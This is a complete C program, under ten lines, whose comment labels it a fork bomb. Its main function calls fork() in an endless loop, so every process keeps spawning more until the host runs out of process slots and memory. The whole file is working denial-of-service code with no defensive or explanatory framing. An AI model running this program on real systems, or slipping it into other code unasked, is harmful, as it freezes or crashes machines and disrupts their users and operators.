/* Fork bomb: every process forks forever, failures ignored. */
#include <unistd.h>
int main(void) {
  for (;;) fork();
}
